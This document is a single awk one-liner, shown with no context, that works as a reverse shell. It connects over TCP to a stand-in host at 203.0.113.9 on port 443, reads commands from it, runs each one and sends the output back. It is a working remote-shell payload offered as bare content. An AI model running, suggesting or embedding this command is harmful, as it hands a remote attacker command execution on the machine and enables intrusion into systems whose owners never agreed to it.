awk 'BEGIN{s="/inet/tcp/0/203.0.113.9/443";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}'
